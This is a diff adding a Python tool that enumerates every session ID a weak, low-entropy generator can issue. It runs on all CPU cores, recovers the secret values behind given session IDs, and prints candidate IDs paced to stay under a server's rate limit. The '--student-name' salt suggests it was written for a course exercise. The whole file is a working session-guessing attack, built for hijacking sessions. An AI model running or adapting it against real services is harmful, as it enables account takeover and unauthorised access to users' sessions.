@@ -0,0 +1,167 @@
+"""Enumerate the session IDs of a low-entropy space in batches across all cores.
+
+Usage:
+    python session_enum.py --student-name NAME --entropy-bits 20 --target SESSION_ID [...]
+    python session_enum.py --student-name NAME --entropy-bits 20 --rate 50 --limit 100
+"""
+import argparse
+import hashlib
+import multiprocessing as mp
+import time
+from collections import deque
+from concurrent.futures import ProcessPoolExecutor
+from typing import Iterable, Iterator, Optional
+
+from session_table import decode_session_id, encode_session_id
+
+DIGEST_SIZE = 32
+
+# Values hashed per worker task
+BATCH_SIZE = 1 << 16
+
+
+def hash_range(start: int, end: int, entropy_bits: int, salt: bytes) -> list[bytes]:
+    """Raw SHA-256 digests of generate_session_id's input for values in [start, end).
+
+    generate_session_id hashes value_bytes || salt with the varying bytes
+    first, so no SHA-256 midstate can be shared between candidates. What is
+    shared instead: the high value bytes are encoded once per 256 values, and
+    every (low byte || salt) suffix comes from a table, so each candidate
+    costs one concatenation and one C-level hash call.
+    """
+    nbytes = (entropy_bits + 7) // 8
+    sha256 = hashlib.sha256
+    suffixes = [bytes([low]) + salt for low in range(256)]
+    digests = []
+    for high in range(start >> 8, ((end - 1) >> 8) + 1):
+        prefix = high.to_bytes(nbytes - 1, "big")
+        lo = max(start - (high << 8), 0)
+        hi = min(end - (high << 8), 256)
+        digests += [sha256(prefix + suffix).digest() for suffix in suffixes[lo:hi]]
+    return digests
+
+
+def _search_batch(start: int, end: int, entropy_bits: int, salt: bytes, targets: frozenset) -> list[tuple[int, bytes]]:
+    digests = hash_range(start, end, entropy_bits, salt)
+    if targets.isdisjoint(digests):
+        return []
+    return [(start + i, digest) for i, digest in enumerate(digests) if digest in targets]
+
+
+def _digest_batch(start: int, end: int, entropy_bits: int, salt: bytes) -> bytes:
+    # One bytes object per batch pickles far faster than a list of digests
+    return b"".join(hash_range(start, end, entropy_bits, salt))
+
+
+class SessionIDEnumerator:
+    """Batched, multi-process enumeration of every session ID a server can issue.
+
+    Digests stay raw (32 bytes) throughout: targets are decoded once and
+    compared as bytes, and only candidates actually handed out by
+    `candidates()` are base64url-encoded. `rate` may be changed while a
+    `candidates()` iterator is running, e.g. by a rate-limit-aware client.
+    """
+
+    def __init__(self, student_name: str, entropy_bits: int, workers: Optional[int] = None,
+                 batch_size: int = BATCH_SIZE, rate: Optional[float] = None):
+        if entropy_bits < 1:
+            raise ValueError("entropy_bits must be at least 1")
+        self.entropy_bits = entropy_bits
+        self.salt = student_name.encode()
+        self.batch_size = batch_size
+        self.rate = rate
+        self.workers = workers or mp.cpu_count()
+        self._pool = ProcessPoolExecutor(max_workers=self.workers, mp_context=mp.get_context("spawn"))
+
+    def __len__(self) -> int:
+        return 2**self.entropy_bits
+
+    def _batches(self, fn, start: int, *args) -> Iterator:
+        """Results of fn over consecutive batches, in order, a few batches ahead per worker."""
+        ranges = ((s, min(s + self.batch_size, len(self))) for s in range(start, len(self), self.batch_size))
+        pending = deque()
+        for batch_start, batch_end in ranges:
+            pending.append((batch_start, self._pool.submit(fn, batch_start, batch_end, self.entropy_bits, self.salt, *args)))
+            if len(pending) >= 2 * self.workers:
+                batch_start, future = pending.popleft()
+                yield batch_start, future.result()
+        while pending:
+            batch_start, future = pending.popleft()
+            yield batch_start, future.result()
+
+    def find(self, session_ids: Iterable[str]) -> dict[str, int]:
+        """Secret values behind the given session IDs; stops once all are found."""
+        wanted = {}
+        for session_id in session_ids:
+            digest = decode_session_id(session_id)
+            if digest is not None:
+                wanted[digest] = session_id
+
+        found = {}
+        if not wanted:
+            return found
+        targets = frozenset(wanted)
+        batches = self._batches(_search_batch, 0, targets)
+        for _, matches in batches:
+            for value, digest in matches:
+                found[wanted[digest]] = value
+            if len(found) == len(wanted):
+                batches.close()
+                break
+        return found
+
+    def digests(self, start: int = 0) -> Iterator[tuple[int, bytes]]:
+        """Every (value, raw digest) pair from `start` on."""
+        for batch_start, joined in self._batches(_digest_batch, start):
+            for i in range(0, len(joined), DIGEST_SIZE):
+                yield batch_start + i // DIGEST_SIZE, joined[i:i + DIGEST_SIZE]
+
+    def candidates(self, start: int = 0) -> Iterator[tuple[int, str]]:
+        """(value, session ID) pairs, paced to at most `self.rate` per second when set."""
+        next_at = time.monotonic()
+        for value, digest in self.digests(start):
+            if self.rate:
+                now = time.monotonic()
+                if next_at > now:
+                    time.sleep(next_at - now)
+                next_at = max(next_at, now) + 1 / self.rate
+            yield value, encode_session_id(digest)
+
+    def close(self) -> None:
+        self._pool.shutdown(cancel_futures=True)
+
+    def __enter__(self) -> "SessionIDEnumerator":
+        return self
+
+    def __exit__(self, *exc) -> None:
+        self.close()
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--student-name", required=True)
+    parser.add_argument("--entropy-bits", type=int, required=True)
+    parser.add_argument("--target", action="append", default=[], help="session ID to invert (repeatable)")
+    parser.add_argument("--workers", type=int, default=None, help="defaults to one per core")
+    parser.add_argument("--rate", type=float, default=None, help="candidates per second to print")
+    parser.add_argument("--limit", type=int, default=None, help="stop after this many candidates")
+    args = parser.parse_args()
+
+    with SessionIDEnumerator(args.student_name, args.entropy_bits, args.workers, rate=args.rate) as enumerator:
+        if args.target:
+            started = time.perf_counter()
+            found = enumerator.find(args.target)
+            elapsed = time.perf_counter() - started
+            for session_id in args.target:
+                print(f"{session_id} -> {found.get(session_id, 'not found')}")
+            print(f"searched in {elapsed:.2f}s with {enumerator.workers} workers")
+            return
+
+        for count, (value, session_id) in enumerate(enumerator.candidates(), 1):
+            print(value, session_id)
+            if args.limit and count >= args.limit:
+                break
+
+
+if __name__ == "__main__":
+    main()